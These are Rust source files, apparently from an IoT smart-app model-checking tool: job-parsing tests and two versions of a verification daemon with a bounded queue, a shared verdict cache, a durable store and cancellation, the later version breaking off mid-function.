        assert!(parse_line("not json", 2).is_err());
        assert!(parse_line(r#"[1,2]"#, 3).unwrap_err().contains("JSON object"));
        assert!(parse_line(r#"{"op":"reboot"}"#, 4).unwrap_err().contains("unknown op"));
    }

    #[test]
    fn rejects_ambiguous_or_missing_bundles() {
        assert!(parse_line(r#"{"events":2}"#, 1).unwrap_err().contains("exactly one"));
        assert!(parse_line(r#"{"market":4,"names":["x"]}"#, 1)
            .unwrap_err()
            .contains("mutually exclusive"));
        assert!(parse_line(r#"{"market":0}"#, 1).unwrap_err().contains("at least one app"));
        assert!(parse_line(r#"{"market":2.5}"#, 1).unwrap_err().contains("integer"));
    }

    #[test]
    fn resolves_market_and_named_bundles() {
        let sources = resolve_sources(&BundleSpec::Market(4)).unwrap();
        assert_eq!(sources.len(), 4);
        assert!(resolve_sources(&BundleSpec::Market(10_000)).is_err());
        assert!(resolve_sources(&BundleSpec::Named(vec!["Unlock Door".into()])).is_ok());
        assert!(resolve_sources(&BundleSpec::Named(vec!["No Such App".into()]))
            .unwrap_err()
            .contains("No Such App"));
    }

    #[test]
    fn parses_and_defaults_inject_panic() {
        let JobLine::Job(spec) = parse_line(r#"{"market":2}"#, 1).unwrap() else { panic!("job") };
        assert!(!spec.inject_panic);
        let JobLine::Job(spec) = parse_line(r#"{"market":2,"inject_panic":true}"#, 1).unwrap()
        else {
            panic!("job")
        };
        assert!(spec.inject_panic);
        assert!(parse_line(r#"{"market":2,"inject_panic":1}"#, 1).unwrap_err().contains("boolean"));
    }

    #[test]
    fn fingerprint_ignores_id_but_nothing_else() {
        let base = |line: &str| match parse_line(line, 1).unwrap() {
            JobLine::Job(spec) => spec.fingerprint(),
            other => panic!("job expected, got {other:?}"),
        };
        // Same work, different correlation ids: same fingerprint.
        assert_eq!(base(r#"{"id":"a","market":4}"#), base(r#"{"id":"b","market":4}"#));
        // Any change to what is verified changes the fingerprint.
        let reference = base(r#"{"market":4}"#);
        for other in [
            r#"{"market":5}"#,
            r#"{"market":4,"events":3}"#,
            r#"{"market":4,"workers":2}"#,
            r#"{"market":4,"failures":true}"#,
            r#"{"market":4,"timeout_ms":10}"#,
            r#"{"market":4,"inject_panic":true}"#,
            r#"{"names":["x"]}"#,
        ] {
            assert_ne!(reference, base(other), "{other}");
        }
        // Field boundaries matter: two names vs one concatenated name.
        assert_ne!(base(r#"{"names":["ab","c"]}"#), base(r#"{"names":["a","bc"]}"#));
    }

    #[test]
    fn json_escape_handles_specials() {
        assert_eq!(json_escape("a\"b\\c\nd"), "a\\\"b\\\\c\\nd");
        assert_eq!(json_escape("\u{1}"), "\\u0001");
    }
}
