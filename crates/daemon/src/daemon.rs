//! The verification daemon: a bounded job queue, a worker pool over
//! [`VerificationPlanner`], and a shared [`VerificationCache`] backed by the
//! durable [`VerdictStore`].
//!
//! ```text
//!   NDJSON jobs ──▶ JobQueue (bounded) ──▶ worker pool
//!                                            │ per group: lock cache,
//!                                            │ lookup (memory → disk),
//!                                            │ unlock, verify misses,
//!                                            │ re-lock + write through
//!                                            ▼
//!                          VerificationCache ⇄ VerdictStore (append-only log)
//! ```
//!
//! Workers share one cache under a mutex, but the model checker itself never
//! runs under the lock: a miss releases the cache, verifies via
//! [`VerificationPlanner::verify_job`], then re-acquires to insert — so two
//! workers can verify different groups concurrently while still deduplicating
//! through the same store.  Every job carries its own
//! [`iotsan::checker::CancelToken`]; [`Daemon::cancel_all`]
//! flips the in-flight tokens and drains the pending queue, turning both into
//! explicit `cancelled` outcomes rather than silently dropped work.

use crate::job::{json_escape, resolve_sources, JobSpec};
use crate::store::{StoreOptions, VerdictStore};
use iotsan::attribution::attribute_traces;
use iotsan::checker::CancelToken;
use iotsan::config::{expert_configure, standard_household};
use iotsan::{
    translate_sources, Fingerprint, FleetGroupReport, FleetPlan, FleetReport, GroupResult,
    Pipeline, VerdictPersistence, VerificationCache, VerificationPlanner,
};
use std::collections::VecDeque;
use std::io;
use std::path::PathBuf;
use std::sync::mpsc::{channel, Receiver, Sender};
use std::sync::{Arc, Condvar, Mutex};
use std::thread::JoinHandle;
use std::time::{Duration, Instant};

/// A [`VerdictPersistence`] adapter over a shared [`VerdictStore`].
///
/// Loads are served from the store's replayed in-memory index; stores append
/// to the log.  An append failure is reported on stderr and otherwise
/// swallowed — the entry is simply not durable, which is always sound (the
/// group re-verifies after a restart), and the store's CRC-guarded records
/// mean a partial append is detected and skipped on replay rather than
/// trusted.
#[derive(Debug, Clone)]
pub struct StoreBacking(Arc<Mutex<VerdictStore>>);

impl StoreBacking {
    /// Wraps a shared store handle.
    pub fn new(store: Arc<Mutex<VerdictStore>>) -> Self {
        StoreBacking(store)
    }
}

impl VerdictPersistence for StoreBacking {
    fn load(&mut self, fingerprint: Fingerprint) -> Option<GroupResult> {
        self.0.lock().unwrap_or_else(|e| e.into_inner()).get(fingerprint).cloned()
    }

    fn store(&mut self, fingerprint: Fingerprint, result: &GroupResult) {
        let mut store = self.0.lock().unwrap_or_else(|e| e.into_inner());
        if let Err(e) = store.append(fingerprint, result) {
            eprintln!("iotsand: verdict store append failed ({}): {e}", store.path().display());
        }
    }
}

/// How a [`Daemon`] is shaped: where its store lives and how much work it
/// accepts at once.
#[derive(Debug, Clone)]
pub struct DaemonConfig {
    /// Path of the append-only verdict log.
    pub store_path: PathBuf,
    /// Eviction/compaction knobs for the store.
    pub store_options: StoreOptions,
    /// Worker threads verifying jobs concurrently (min 1).
    pub workers: usize,
    /// Bounded queue capacity; submission blocks when full (min 1).
    pub queue_capacity: usize,
}

impl DaemonConfig {
    /// A default-shaped daemon (2 workers, queue of 64) over `store_path`.
    pub fn new(store_path: impl Into<PathBuf>) -> Self {
        DaemonConfig {
            store_path: store_path.into(),
            store_options: StoreOptions::default(),
            workers: 2,
            queue_capacity: 64,
        }
    }
}

/// How a job ended.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum JobStatus {
    /// The job ran to completion (individual searches may still have been
    /// truncated by the job's own `timeout_ms` — see the rendered
    /// `truncated` field).
    Ok,
    /// The job was cancelled (mid-run via its token, or while still queued).
    Cancelled,
    /// The job could not run at all (bad bundle, translation failure).
    Invalid(String),
}

/// The result of one submitted job.
#[derive(Debug, Clone)]
pub struct JobOutcome {
    /// Submission index (0-based, the order jobs were submitted in).
    pub index: usize,
    /// The job's correlation id.
    pub id: String,
    /// How the job ended.
    pub status: JobStatus,
    /// The merged fleet report; `None` when the job never ran.
    pub report: Option<FleetReport>,
    /// How many of this job's cache hits were served from the durable store
    /// (rather than daemon memory).
    pub backing_hits: usize,
    /// Wall-clock time from dequeue to verdict.
    pub elapsed: Duration,
}

impl JobOutcome {
    /// Renders the outcome as one NDJSON result line.
    pub fn render(&self) -> String {
        let mut out = String::with_capacity(128);
        out.push_str(&format!("{{\"id\":\"{}\"", json_escape(&self.id)));
        match &self.status {
            JobStatus::Ok => out.push_str(",\"status\":\"ok\""),
            JobStatus::Cancelled => out.push_str(",\"status\":\"cancelled\""),
            JobStatus::Invalid(error) => {
                out.push_str(&format!(
                    ",\"status\":\"invalid\",\"error\":\"{}\"}}",
                    json_escape(error)
                ));
                return out;
            }
        }
        if let Some(report) = &self.report {
            let violated: Vec<String> =
                report.violated_properties().iter().map(|p| p.to_string()).collect();
            let truncated = report.groups.iter().any(|g| g.report.stats.truncated);
            out.push_str(&format!(
                ",\"groups\":{},\"violated_properties\":[{}],\"violations\":{},\
                 \"cache_hits\":{},\"cache_misses\":{},\"backing_hits\":{},\"truncated\":{}",
                report.groups.len(),
                violated.join(","),
                report.violation_count(),
                report.cache_hits,
                report.cache_misses,
                self.backing_hits,
                truncated,
            ));
        }
        out.push_str(&format!(",\"elapsed_ms\":{:.3}}}", self.elapsed.as_secs_f64() * 1000.0));
        out
    }
}

/// Cumulative daemon statistics, reported at shutdown.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct DaemonSummary {
    /// Jobs submitted over the daemon's lifetime.
    pub jobs: usize,
    /// Lifetime cache hits (memory or disk).
    pub cache_hits: usize,
    /// Lifetime cache misses (groups model-checked).
    pub cache_misses: usize,
    /// Lifetime hits served by the durable store.
    pub backing_hits: usize,
    /// Live entries in the verdict store at shutdown.
    pub store_entries: usize,
    /// Total records in the store's log at shutdown (live + superseded).
    pub store_records: usize,
}

#[derive(Debug, Default)]
struct QueueState {
    items: VecDeque<(usize, JobSpec)>,
    closed: bool,
}

/// A bounded multi-producer multi-consumer queue (mutex + condvars).
#[derive(Debug)]
struct JobQueue {
    state: Mutex<QueueState>,
    capacity: usize,
    not_empty: Condvar,
    not_full: Condvar,
}

impl JobQueue {
    fn new(capacity: usize) -> Self {
        JobQueue {
            state: Mutex::new(QueueState::default()),
            capacity: capacity.max(1),
            not_empty: Condvar::new(),
            not_full: Condvar::new(),
        }
    }

    /// Blocks while full; `Err` returns the job when the queue has closed.
    fn push(&self, index: usize, spec: JobSpec) -> Result<(), JobSpec> {
        let mut state = self.state.lock().unwrap_or_else(|e| e.into_inner());
        while state.items.len() >= self.capacity && !state.closed {
            state = self.not_full.wait(state).unwrap_or_else(|e| e.into_inner());
        }
        if state.closed {
            return Err(spec);
        }
        state.items.push_back((index, spec));
        self.not_empty.notify_one();
        Ok(())
    }

    /// Blocks while empty; `None` once the queue is closed and drained.
    fn pop(&self) -> Option<(usize, JobSpec)> {
        let mut state = self.state.lock().unwrap_or_else(|e| e.into_inner());
        loop {
            if let Some(item) = state.items.pop_front() {
                self.not_full.notify_one();
                return Some(item);
            }
            if state.closed {
                return None;
            }
            state = self.not_empty.wait(state).unwrap_or_else(|e| e.into_inner());
        }
    }

    fn close(&self) {
        self.state.lock().unwrap_or_else(|e| e.into_inner()).closed = true;
        self.not_empty.notify_all();
        self.not_full.notify_all();
    }

    fn drain(&self) -> Vec<(usize, JobSpec)> {
        let mut state = self.state.lock().unwrap_or_else(|e| e.into_inner());
        let drained = state.items.drain(..).collect();
        self.not_full.notify_all();
        drained
    }
}

/// The set of fingerprints some worker is currently verifying.  Claiming an
/// already-claimed fingerprint blocks until the owner finishes, then reports
/// "not claimed" so the caller re-consults the cache — two jobs sharing a
/// group never verify it twice.
#[derive(Debug, Default)]
struct Inflight {
    set: Mutex<std::collections::BTreeSet<Fingerprint>>,
    done: Condvar,
}

impl Inflight {
    /// `Some(guard)` when this caller now owns the verification of
    /// `fingerprint`; `None` after waiting for another worker to finish it.
    fn claim(&self, fingerprint: Fingerprint) -> Option<InflightGuard<'_>> {
        let mut set = self.set.lock().unwrap_or_else(|e| e.into_inner());
        if set.insert(fingerprint) {
            return Some(InflightGuard { inflight: self, fingerprint });
        }
        while set.contains(&fingerprint) {
            set = self.done.wait(set).unwrap_or_else(|e| e.into_inner());
        }
        None
    }
}

/// Releases the claimed fingerprint on drop (panic-safe: a crashed worker
/// never leaves a fingerprint claimed forever).
#[derive(Debug)]
struct InflightGuard<'a> {
    inflight: &'a Inflight,
    fingerprint: Fingerprint,
}

impl Drop for InflightGuard<'_> {
    fn drop(&mut self) {
        self.inflight.set.lock().unwrap_or_else(|e| e.into_inner()).remove(&self.fingerprint);
        self.inflight.done.notify_all();
    }
}

#[derive(Debug)]
struct Inner {
    queue: JobQueue,
    cache: Mutex<VerificationCache>,
    store: Arc<Mutex<VerdictStore>>,
    active: Mutex<Vec<(usize, CancelToken)>>,
    inflight: Inflight,
    results: Sender<JobOutcome>,
}

/// The verification daemon: owns the store, the shared cache and the worker
/// pool.  See the [module docs](self) for the locking discipline.
#[derive(Debug)]
pub struct Daemon {
    inner: Arc<Inner>,
    workers: Vec<JoinHandle<()>>,
    receiver: Receiver<JobOutcome>,
    submitted: usize,
}

impl Daemon {
    /// Opens (or recovers) the verdict store at `config.store_path` and
    /// starts the worker pool.
    pub fn start(config: DaemonConfig) -> io::Result<Daemon> {
        let store = Arc::new(Mutex::new(VerdictStore::open_with(
            &config.store_path,
            config.store_options,
        )?));
        let cache =
            VerificationCache::new().with_backing(Box::new(StoreBacking::new(Arc::clone(&store))));
        let (results, receiver) = channel();
        let inner = Arc::new(Inner {
            queue: JobQueue::new(config.queue_capacity),
            cache: Mutex::new(cache),
            store,
            active: Mutex::new(Vec::new()),
            inflight: Inflight::default(),
            results,
        });
        let workers = (0..config.workers.max(1))
            .map(|_| {
                let inner = Arc::clone(&inner);
                std::thread::spawn(move || worker_loop(&inner))
            })
            .collect();
        Ok(Daemon { inner, workers, receiver, submitted: 0 })
    }

    /// The recovery verdict of this daemon's store (what `open_with` found).
    pub fn recovery(&self) -> crate::store::Recovery {
        self.inner.store.lock().unwrap_or_else(|e| e.into_inner()).recovery().clone()
    }

    /// A shared handle on the verdict store (for status and compaction).
    pub fn store(&self) -> Arc<Mutex<VerdictStore>> {
        Arc::clone(&self.inner.store)
    }

    /// Submits one job; blocks while the queue is full.  Returns the job's
    /// submission index.
    fn submit(&mut self, spec: JobSpec) -> usize {
        let index = self.submitted;
        self.submitted += 1;
        if self.inner.queue.push(index, spec.clone()).is_err() {
            // Queue already closed: report the job as cancelled.
            let _ = self.inner.results.send(cancelled_outcome(index, spec));
        }
        index
    }

    /// Submits a batch and waits for every outcome, returned in submission
    /// order.
    pub fn run_batch(&mut self, specs: Vec<JobSpec>) -> Vec<JobOutcome> {
        let expected = specs.len();
        for spec in specs {
            self.submit(spec);
        }
        let mut outcomes = Vec::with_capacity(expected);
        for _ in 0..expected {
            match self.receiver.recv() {
                Ok(outcome) => outcomes.push(outcome),
                Err(_) => break, // every worker died; return what we have
            }
        }
        outcomes.sort_by_key(|o| o.index);
        outcomes
    }

    /// Cancels every in-flight job (their searches stop at the next
    /// transition and report `truncated`) and drains still-queued jobs into
    /// explicit `cancelled` outcomes.
    pub fn cancel_all(&self) {
        for (_, token) in self.inner.active.lock().unwrap_or_else(|e| e.into_inner()).iter() {
            token.cancel();
        }
        for (index, spec) in self.inner.queue.drain() {
            let _ = self.inner.results.send(cancelled_outcome(index, spec));
        }
    }

    /// Closes the queue, waits for the workers to drain it, syncs the store
    /// and reports lifetime statistics.
    pub fn shutdown(self) -> io::Result<DaemonSummary> {
        self.inner.queue.close();
        for worker in self.workers {
            let _ = worker.join();
        }
        let (cache_hits, cache_misses, backing_hits) = {
            let cache = self.inner.cache.lock().unwrap_or_else(|e| e.into_inner());
            (cache.hits(), cache.misses(), cache.backing_hits())
        };
        let mut store = self.inner.store.lock().unwrap_or_else(|e| e.into_inner());
        store.sync()?;
        Ok(DaemonSummary {
            jobs: self.submitted,
            cache_hits,
            cache_misses,
            backing_hits,
            store_entries: store.len(),
            store_records: store.records(),
        })
    }
}

fn cancelled_outcome(index: usize, spec: JobSpec) -> JobOutcome {
    JobOutcome {
        index,
        id: spec.id,
        status: JobStatus::Cancelled,
        report: None,
        backing_hits: 0,
        elapsed: Duration::ZERO,
    }
}

fn worker_loop(inner: &Inner) {
    while let Some((index, spec)) = inner.queue.pop() {
        let outcome = execute_job(inner, index, spec);
        if inner.results.send(outcome).is_err() {
            break; // the daemon handle is gone; no one is listening
        }
    }
}

fn invalid_outcome(index: usize, id: String, error: String, started: Instant) -> JobOutcome {
    JobOutcome {
        index,
        id,
        status: JobStatus::Invalid(error),
        report: None,
        backing_hits: 0,
        elapsed: started.elapsed(),
    }
}

fn execute_job(inner: &Inner, index: usize, spec: JobSpec) -> JobOutcome {
    let started = Instant::now();
    let sources = match resolve_sources(&spec.bundle) {
        Ok(sources) => sources,
        Err(error) => return invalid_outcome(index, spec.id, error, started),
    };
    let refs: Vec<&str> = sources.iter().map(String::as_str).collect();
    let apps = match translate_sources(&refs) {
        Ok(apps) => apps,
        Err(error) => return invalid_outcome(index, spec.id, error.to_string(), started),
    };
    let config = expert_configure(&apps, &standard_household());

    let token = CancelToken::new();
    inner.active.lock().unwrap_or_else(|e| e.into_inner()).push((index, token.clone()));

    let mut pipeline = Pipeline::with_events(spec.events);
    if spec.failures {
        pipeline = pipeline.with_failures();
    }
    if spec.workers > 1 {
        pipeline = pipeline.with_workers(spec.workers);
    }
    pipeline.search.time_limit = spec.timeout_ms.map(Duration::from_millis);
    pipeline.search = pipeline.search.clone().cancellable(token.clone());

    let planner = VerificationPlanner::new(&pipeline);
    let plan = planner.plan(&apps, &config);
    let (report, backing_hits) = execute_plan(&planner, &plan, inner);

    inner.active.lock().unwrap_or_else(|e| e.into_inner()).retain(|(i, _)| *i != index);
    let status = if token.is_cancelled() { JobStatus::Cancelled } else { JobStatus::Ok };
    JobOutcome {
        index,
        id: spec.id,
        status,
        report: Some(report),
        backing_hits,
        elapsed: started.elapsed(),
    }
}

/// [`VerificationPlanner::execute`] with a shared cache: lookups and inserts
/// hold the mutex, the model checker runs outside it, and the in-flight set
/// guarantees no fingerprint is verified twice concurrently.  Returns the
/// merged report plus how many of its hits came from the durable backing.
fn execute_plan(
    planner: &VerificationPlanner<'_>,
    plan: &FleetPlan,
    inner: &Inner,
) -> (FleetReport, usize) {
    let mut groups: Vec<FleetGroupReport> = Vec::with_capacity(plan.jobs.len());
    let mut cache_hits = 0usize;
    let mut cache_misses = 0usize;
    let mut backing_hits = 0usize;
    for job in &plan.jobs {
        let (result, from_cache) = loop {
            let cached = {
                let mut cache = inner.cache.lock().unwrap_or_else(|e| e.into_inner());
                let disk_before = cache.backing_hits();
                let hit = cache.lookup(job.fingerprint);
                if hit.is_some() && cache.backing_hits() > disk_before {
                    backing_hits += 1;
                }
                hit
            };
            if let Some(cached) = cached {
                cache_hits += 1;
                break (cached, true);
            }
            // Claim the fingerprint; when another worker already owns it,
            // claim() blocks until that run finishes and we re-consult the
            // cache (the owner's result may be there — or not, if it was
            // truncated, in which case this job verifies under its own
            // budget).
            let Some(_guard) = inner.inflight.claim(job.fingerprint) else {
                continue;
            };
            cache_misses += 1;
            let fresh = planner.verify_job(job);
            // Same discipline as VerificationPlanner::execute: a report
            // truncated by a budget (or cancellation) is never cached.
            if !fresh.report.stats.truncated {
                inner
                    .cache
                    .lock()
                    .unwrap_or_else(|e| e.into_inner())
                    .insert(job.fingerprint, fresh.clone());
            }
            break (fresh, false);
        };
        let attributions = attribute_traces(&result.apps, &result.report.violations);
        groups.push(FleetGroupReport {
            apps: result.apps,
            fingerprint: job.fingerprint,
            from_cache,
            report: result.report,
            attributions,
        });
    }
    groups.sort_by(|a, b| a.apps.cmp(&b.apps));
    let report = FleetReport {
        groups,
        excluded_apps: plan.excluded_apps.clone(),
        original_handlers: plan.original_handlers,
        reduced_handlers: plan.reduced_handlers,
        cache_hits,
        cache_misses,
    };
    (report, backing_hits)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::job::BundleSpec;
    use crate::store::Recovery;
    use std::path::Path;

    fn temp_store(name: &str) -> PathBuf {
        let dir = std::env::temp_dir().join(format!("iotsan-daemon-{}-{name}", std::process::id()));
        let _ = std::fs::remove_dir_all(&dir);
        std::fs::create_dir_all(&dir).unwrap();
        dir.join("verdicts.log")
    }

    fn market_job(id: &str, n: usize) -> JobSpec {
        JobSpec {
            id: id.into(),
            bundle: BundleSpec::Market(n),
            events: 2,
            workers: 1,
            failures: false,
            timeout_ms: None,
        }
    }

    fn start(path: &Path) -> Daemon {
        Daemon::start(DaemonConfig::new(path)).unwrap()
    }

    #[test]
    fn identical_jobs_share_the_cache() {
        let path = temp_store("share");
        let mut daemon = start(&path);
        let outcomes = daemon.run_batch(vec![market_job("a", 4), market_job("b", 4)]);
        assert_eq!(outcomes.len(), 2);
        let total_hits: usize =
            outcomes.iter().map(|o| o.report.as_ref().unwrap().cache_hits).sum();
        let total_misses: usize =
            outcomes.iter().map(|o| o.report.as_ref().unwrap().cache_misses).sum();
        // Two identical jobs over one shared cache: every group is verified
        // at most once, the rest are hits (which job wins each race varies).
        let groups = outcomes[0].report.as_ref().unwrap().groups.len();
        assert_eq!(total_hits + total_misses, 2 * groups);
        assert_eq!(total_misses, groups);
        let a = outcomes[0].report.as_ref().unwrap().outcome();
        let b = outcomes[1].report.as_ref().unwrap().outcome();
        assert_eq!(a, b);
        let summary = daemon.shutdown().unwrap();
        assert_eq!(summary.jobs, 2);
        assert_eq!(summary.store_entries, groups);
    }

    #[test]
    fn restart_replays_verdicts_from_disk() {
        let path = temp_store("restart");
        let mut cold = start(&path);
        let cold_outcomes = cold.run_batch(vec![market_job("cold", 4)]);
        let cold_report = cold_outcomes[0].report.as_ref().unwrap().clone();
        assert_eq!(cold_outcomes[0].backing_hits, 0);
        cold.shutdown().unwrap();

        let mut warm = start(&path);
        assert!(matches!(warm.recovery(), Recovery::Clean { .. }));
        let warm_outcomes = warm.run_batch(vec![market_job("warm", 4)]);
        let warm_report = warm_outcomes[0].report.as_ref().unwrap();
        assert_eq!(warm_report.cache_misses, 0);
        assert_eq!(warm_outcomes[0].backing_hits, warm_report.groups.len());
        // Replayed reports are byte-identical, timing included.
        for (c, w) in cold_report.groups.iter().zip(&warm_report.groups) {
            assert_eq!(c.report, w.report);
        }
        warm.shutdown().unwrap();
    }

    #[test]
    fn invalid_jobs_report_errors() {
        let path = temp_store("invalid");
        let mut daemon = start(&path);
        let outcomes = daemon.run_batch(vec![JobSpec {
            id: "bad".into(),
            bundle: BundleSpec::Named(vec!["No Such App".into()]),
            events: 2,
            workers: 1,
            failures: false,
            timeout_ms: None,
        }]);
        assert!(matches!(&outcomes[0].status, JobStatus::Invalid(e) if e.contains("No Such App")));
        let line = outcomes[0].render();
        assert!(line.contains("\"status\":\"invalid\""), "{line}");
        daemon.shutdown().unwrap();
    }

    #[test]
    fn cancel_all_stops_inflight_and_queued_jobs() {
        let path = temp_store("cancel");
        let mut daemon = Daemon::start(DaemonConfig {
            workers: 1, // serialize, so the second job is queued while the first runs
            ..DaemonConfig::new(&path)
        })
        .unwrap();
        // A search this deep runs for many seconds before any default cap
        // fires; the timeout is only a backstop should cancellation break.
        let slow = JobSpec {
            id: "slow".into(),
            bundle: BundleSpec::Market(8),
            events: 8,
            workers: 1,
            failures: true,
            timeout_ms: Some(120_000),
        };
        let queued = market_job("queued", 2);

        let inner = Arc::clone(&daemon.inner);
        let canceller = std::thread::spawn(move || {
            // Wait until the slow job has registered its token (it is then
            // mid-search), cancel it, and drain the still-queued job.
            let deadline = Instant::now() + Duration::from_secs(30);
            while inner.active.lock().unwrap().is_empty() && Instant::now() < deadline {
                std::thread::sleep(Duration::from_millis(5));
            }
            std::thread::sleep(Duration::from_millis(50));
            for (_, token) in inner.active.lock().unwrap().iter() {
                token.cancel();
            }
            for (index, spec) in inner.queue.drain() {
                let _ = inner.results.send(cancelled_outcome(index, spec));
            }
        });
        let started = Instant::now();
        let outcomes = daemon.run_batch(vec![slow, queued]);
        canceller.join().unwrap();
        assert!(started.elapsed() < Duration::from_secs(30));
        assert_eq!(outcomes.len(), 2);
        assert_eq!(outcomes[0].status, JobStatus::Cancelled);
        assert!(outcomes[0]
            .report
            .as_ref()
            .is_some_and(|r| r.groups.iter().any(|g| g.report.stats.truncated)));
        assert_eq!(outcomes[1].status, JobStatus::Cancelled);
        assert!(outcomes[1].report.is_none());
        daemon.shutdown().unwrap();
    }

    #[test]
    fn render_produces_one_json_line() {
        let path = temp_store("render");
        let mut daemon = start(&path);
        let outcomes = daemon.run_batch(vec![market_job("r1", 2)]);
        let line = outcomes[0].render();
        assert!(line.starts_with("{\"id\":\"r1\",\"status\":\"ok\""), "{line}");
        assert!(line.contains("\"cache_misses\""), "{line}");
        assert!(!line.contains('\n'));
        // The line is valid JSON by our own vendored parser.
        assert!(serde_json::from_str::<serde_json::Value>(&line).is_ok());
        daemon.shutdown().unwrap();
    }
}
