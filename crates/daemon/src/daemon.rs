//! The verification daemon: a bounded job queue, a worker pool over
//! [`VerificationPlanner`], and a shared [`VerificationCache`] backed by the
//! durable [`VerdictStore`].
//!
//! ```text
//!   NDJSON jobs ──▶ JobQueue (bounded) ──▶ worker pool
//!                                            │ per group: lock cache,
//!                                            │ lookup (memory → disk),
//!                                            │ unlock, verify misses,
//!                                            │ re-lock + write through
//!                                            ▼
//!                          VerificationCache ⇄ VerdictStore (append-only log)
//! ```
//!
//! Workers share one cache under a mutex, but the model checker itself never
//! runs under the lock: a miss releases the cache, verifies via
//! [`VerificationPlanner::verify_job`], then re-acquires to insert — so two
//! workers can verify different groups concurrently while still deduplicating
//! through the same store.  Every job carries its own
//! [`iotsan::checker::CancelToken`]; [`Daemon::cancel_all`]
//! flips the in-flight tokens and drains the pending queue, turning both into
//! explicit `cancelled` outcomes rather than silently dropped work.
//!
//! # Self-healing
//!
//! The daemon survives its two production failure classes instead of dying:
//!
//! - **Persistence failures** (full disk, fsync error, torn write): the
//!   daemon enters a *degraded* mode — verdicts keep being computed and
//!   served from the in-memory cache, writes are suspended, and a bounded
//!   re-probe with exponential backoff re-runs store recovery
//!   ([`VerdictStore::reopen`]) until the disk heals.  An acknowledged
//!   durable verdict is never lost and a wrong verdict is never served;
//!   verdicts computed while degraded simply re-verify after a restart.
//! - **Panicking jobs**: every job runs under `catch_unwind`, so a panic
//!   becomes a structured [`JobStatus::Failed`] outcome instead of a dead
//!   worker thread.  Failed jobs retry with capped exponential backoff
//!   ([`RetryPolicy`]); a job class that keeps failing is moved to a
//!   fingerprint-keyed poison quarantine (persisted best-effort in a
//!   sidecar file, surfaced by `--status`), and duplicates of a
//!   quarantined job fail fast instead of re-running the doomed work.

use crate::fault::{FaultPlan, FaultyIo};
use crate::job::{json_escape, resolve_sources, JobSpec};
use crate::store::{StoreOptions, VerdictStore};
use iotsan::attribution::attribute_traces;
use iotsan::checker::CancelToken;
use iotsan::config::{expert_configure, standard_household};
use iotsan::{
    translate_sources, Fingerprint, FleetGroupReport, FleetPlan, FleetReport, GroupResult,
    Pipeline, VerdictPersistence, VerificationCache, VerificationPlanner,
};
use iotsan_telemetry::flight::{self, EventCode, Level};
use iotsan_telemetry::rows::JsonRow;
use iotsan_telemetry::METRICS;
use std::collections::{BTreeMap, VecDeque};
use std::io;
use std::path::{Path, PathBuf};
use std::sync::mpsc::{channel, Receiver, Sender};
use std::sync::{Arc, Condvar, Mutex, MutexGuard};
use std::thread::JoinHandle;
use std::time::{Duration, Instant};

/// How many repair probes a degraded [`StoreBacking`] attempts before the
/// store is considered permanently lost for this process (verdicts keep
/// being served from memory; only durability is gone until a restart).
pub const REPROBE_LIMIT: u32 = 8;

/// Capped-exponential-backoff knobs, used for both panicking-job retries
/// and degraded-store repair probes.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct RetryPolicy {
    /// Attempts before a failing job class is quarantined (min 1).
    pub max_attempts: u32,
    /// Backoff base: attempt *n* waits `base * 2^(n-1)` ms, capped at 1 s.
    pub base_delay_ms: u64,
}

impl Default for RetryPolicy {
    fn default() -> Self {
        RetryPolicy { max_attempts: 3, base_delay_ms: 25 }
    }
}

impl RetryPolicy {
    /// The backoff before the next attempt, after `failures` failures so
    /// far: `base * 2^(failures-1)` milliseconds, capped at one second.
    pub fn delay(&self, failures: u32) -> Duration {
        let factor = 1u64 << failures.saturating_sub(1).min(10);
        Duration::from_millis(self.base_delay_ms.saturating_mul(factor).min(1_000))
    }
}

/// The persistence layer's shared health: `None` reason means healthy,
/// `Some` means degraded (writes suspended, verdicts served from memory)
/// with the probe schedule tracking the next repair attempt.
#[derive(Debug, Default)]
pub struct StoreHealth {
    state: Mutex<HealthState>,
}

#[derive(Debug, Default)]
struct HealthState {
    reason: Option<String>,
    probes: u32,
    next_probe_at: Option<Instant>,
    /// When the current degraded spell began — drives the
    /// `iotsan_daemon_degraded_ms_total` accounting on repair/shutdown.
    degraded_since: Option<Instant>,
}

impl StoreHealth {
    fn lock(&self) -> MutexGuard<'_, HealthState> {
        self.state.lock().unwrap_or_else(|e| e.into_inner())
    }

    /// True while persistence is suspended.
    pub fn is_degraded(&self) -> bool {
        self.lock().reason.is_some()
    }

    /// Why persistence is suspended, when it is.
    pub fn reason(&self) -> Option<String> {
        self.lock().reason.clone()
    }

    /// Repair probes attempted since entering the current degraded spell.
    pub fn probes(&self) -> u32 {
        self.lock().probes
    }
}

/// A [`VerdictPersistence`] adapter over a shared [`VerdictStore`].
///
/// Loads are served from the store's replayed in-memory index; stores
/// append to the log.  An append failure flips the shared [`StoreHealth`]
/// to degraded: the verdict stays correct in memory (re-verifying after a
/// restart is always sound, and the store's CRC-guarded records mean a
/// partial append is detected and skipped on replay rather than trusted),
/// further writes are suspended, and subsequent store traffic drives a
/// bounded, exponentially backed-off repair probe that re-runs recovery
/// ([`VerdictStore::reopen`]) until the disk heals.
#[derive(Debug, Clone)]
pub struct StoreBacking {
    store: Arc<Mutex<VerdictStore>>,
    health: Arc<StoreHealth>,
    retry: RetryPolicy,
}

impl StoreBacking {
    /// Wraps a shared store handle with fresh health and default retry
    /// knobs.
    pub fn new(store: Arc<Mutex<VerdictStore>>) -> Self {
        Self::with_health(store, Arc::new(StoreHealth::default()), RetryPolicy::default())
    }

    /// Wraps a shared store handle, sharing `health` with whoever needs to
    /// observe degraded mode (the daemon's status surface).
    pub fn with_health(
        store: Arc<Mutex<VerdictStore>>,
        health: Arc<StoreHealth>,
        retry: RetryPolicy,
    ) -> Self {
        StoreBacking { store, health, retry }
    }

    /// The shared health handle.
    pub fn health(&self) -> Arc<StoreHealth> {
        Arc::clone(&self.health)
    }

    /// While degraded: when a probe is due, re-run store recovery.
    /// Returns whether the backing is healthy afterwards.  Lock order is
    /// health → store, here and in `store()`.
    fn ensure_healthy(&self, state: &mut HealthState) -> bool {
        if state.reason.is_none() {
            return true;
        }
        let now = Instant::now();
        let due = state.next_probe_at.is_some_and(|at| now >= at);
        if !due || state.probes >= REPROBE_LIMIT {
            return false;
        }
        state.probes += 1;
        METRICS.daemon_reprobes.inc();
        flight::record(
            Level::Info,
            EventCode::StoreReprobe,
